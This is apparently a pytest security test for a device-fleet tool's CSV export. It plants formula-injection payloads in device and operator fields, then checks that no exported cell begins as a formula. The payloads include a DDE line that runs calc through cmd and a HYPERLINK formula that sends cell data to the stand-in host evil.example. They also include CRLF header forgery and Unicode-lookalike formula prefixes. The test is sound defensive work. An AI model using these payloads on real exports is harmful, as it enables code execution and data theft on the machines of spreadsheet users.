"""Formulas and forged lines for the spreadsheet in which somebody opens an export.

A laptop's user chooses hostname and outputs, an operator labels, reasons and notes. The whole way
is real: device or operator, server, `penguinctl -o csv`, and what a spreadsheet makes of it.
"""

import csv
import io
import re
import unicodedata

import pytest

from tests.attacks.kit.evil_agent import EvilAgent
from tests.attacks.kit.evil_reports import EvilReports

pytestmark = pytest.mark.timeout(120)

# Dynamic data exchange, a hyperlink that carries cells away, arithmetic, a forged header, a cell
# that ends early.
EXCHANGE = "=cmd|' /C calc'!A0"
PAYLOADS = (
    EXCHANGE,
    '=HYPERLINK("http://evil.example/?"&A1,"open me")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r\nSubject: forged\r\n\r\n=1+1",
    '","=1+1","',
    "\uff1d1+1",
)
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
COMMANDS = (
    "device list",
    "device list --columns hostname,os_name,labels.0 --sort hostname",
    "device show {device} --plugin *",
    "device history {device}",
    "issue list --closed",
    "issue show {issue}",
    "trail {device}",
    "trail {device} --columns key,new,old",
    "ledger list",
    "ledger list --columns details.note,details.reason,target",
    "token list",
)


def poison(fleet, wire, token, database, payload):
    """Let a device and an operator say a payload wherever they can; return what to ask for."""
    agent = EvilAgent(wire)
    agent.enroll(token, hostname=payload)
    reports = EvilReports(agent)
    reports.check_in(hostname=payload, agent_version=payload, boot_id="b")
    reports.says(firewall={"status": "off", payload: payload}, os_info={"name": payload})
    reports.says(firewall={"status": "off", payload: [payload], "x" + payload: payload})
    device, alice = agent.device_id, fleet.alice
    alice.run("issue", "open", device, "--name", "fan", "--reason", payload)
    alice.run("token", "create", "--note", payload)
    # What the server would have refused as a label or a name.
    for place in ("hostname", "os_name", "agent_version"):
        database.records["devices"].update_one({"_id": device}, {"$set": {place: payload}})
    database.records["devices"].update_one({"_id": device}, {"$set": {"labels": [payload]}})
    database.records["issues"].update_many(
        {"device_id": device}, {"$set": {"summary": payload, "hostname": payload}}
    )
    issue = alice.json("issue", "list", "--name", "fan", device)["issues"][0]["issue_id"]
    return {"device": device, "issue": issue}


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_no_cell_of_an_export_is_a_formula(fleet, wire, token, database, payload):
    names = poison(fleet, wire, token, database, payload)
    reached = set()
    for command in COMMANDS:
        words = [word.format(**names) for word in command.split()]
        done = fleet.alice.try_run(*words, "-o", "csv")
        assert done.returncode == 0, done.stderr
        records = list(csv.reader(io.StringIO(done.stdout, newline="")))
        assert len({len(record) for record in records}) == 1, command
        # Nothing that the payload holds begins a line of its own.
        assert done.stdout.count("\n") == len(records), command
        cells = [cell for record in records for cell in record]
        assert [c for c in cells if c.startswith(FORMULA) and not NUMBER.fullmatch(c)] == [], (
            command
        )
        assert not [c for c in cells if {unicodedata.category(one) for one in c} & {"Cc", "Cf"}]
        reached |= {command} if "forged" in done.stdout or "1+1" in done.stdout else set()
    if "1+1" in payload:
        # The payload did get into the exports.
        assert len(reached) >= len(COMMANDS) - 3, reached


def test_a_spreadsheet_would_have_taken_it():
    """The same text, written as a list of words is usually written."""
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerow([EXCHANGE])
    (record,) = csv.reader(io.StringIO(buffer.getvalue(), newline=""))
    assert record[0].startswith(FORMULA)
